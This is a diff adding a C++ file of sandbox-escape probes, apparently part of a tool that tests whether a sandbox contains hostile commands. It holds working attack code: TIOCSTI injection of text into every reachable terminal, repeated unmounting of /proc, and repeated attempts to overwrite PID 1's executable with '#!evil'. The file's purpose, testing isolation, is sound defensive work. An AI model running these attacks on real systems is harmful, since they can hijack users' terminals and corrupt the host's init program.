@@ -1,0 +1,85 @@
+// What a hostile command would try. Each prints what it reached.
+#include <dirent.h>
+#include <fcntl.h>
+#include <sys/ioctl.h>
+#include <sys/mount.h>
+#include <unistd.h>
+
+#include <cctype>
+#include <cerrno>
+#include <cstring>
+#include <memory>
+#include <string>
+
+#include "probe.h"
+
+namespace probe {
+namespace {
+
+int numbers_in_proc() {
+  int count = 0;
+  const std::unique_ptr<DIR, int (*)(DIR*)> dir(::opendir("/proc"), [](DIR* d) { return ::closedir(d); });
+  if (!dir) return 0;
+  while (const dirent* entry = ::readdir(dir.get())) {
+    if (std::isdigit(static_cast<unsigned char>(entry->d_name[0])) != 0) ++count;
+  }
+  return count;
+}
+
+// tiocsti TEXT: types TEXT into every terminal it can reach.
+int tiocsti(int argc, char** argv) {
+  const char* text = argc > 0 ? argv[0] : "\n";
+  int tried = 0;
+  const auto type = [&](int fd) {
+    for (const char* at = text; *at != 0; ++at) {
+      if (::ioctl(fd, TIOCSTI, at) == 0) ++tried;
+    }
+  };
+  for (int fd = 0; fd < 256; ++fd) type(fd);
+  const int tty = ::open("/dev/tty", O_RDWR | O_CLOEXEC | O_NOCTTY);
+  if (tty >= 0) type(tty);
+  say("typed %d", tried);
+  return 0;
+}
+
+// umountproc: takes /proc away again and again, counting the processes that show each time.
+int umountproc(int, char**) {
+  say("before %d", numbers_in_proc());
+  int worst = 0;
+  int rounds = 0;
+  while (rounds < 64 && ::umount2("/proc", MNT_DETACH) == 0) {
+    ++rounds;
+    const int seen = numbers_in_proc();
+    if (seen > worst) worst = seen;
+  }
+  say("rounds %d", rounds);
+  say("worst %d", worst);
+  return 0;
+}
+
+// rewrite: tries to open the program of PID 1 for writing, by every door.
+int rewrite(int, char**) {
+  char target[4096];
+  const ssize_t n = ::readlink("/proc/1/exe", target, sizeof target - 1);
+  target[n < 0 ? 0 : n] = 0;
+  say("exe %s", target);
+  int opened = 0;
+  const int path_fd = ::open("/proc/1/exe", O_PATH | O_CLOEXEC);
+  for (int i = 0; i < 2000; ++i) {
+    const std::string door = "/proc/self/fd/" + std::to_string(path_fd);
+    for (const char* name : {"/proc/1/exe", door.c_str()}) {
+      const int fd = ::open(name, O_WRONLY | O_CLOEXEC);
+      if (fd < 0) continue;
+      if (::write(fd, "#!evil", 6) == 6) ++opened;
+      ::close(fd);
+    }
+  }
+  say("written %d", opened);
+  return 0;
+}
+
+}  // namespace
+
+const Command kAttacks[] = {{"tiocsti", tiocsti}, {"umountproc", umountproc}, {"rewrite", rewrite}, {"", nullptr}};
+
+}  // namespace probe
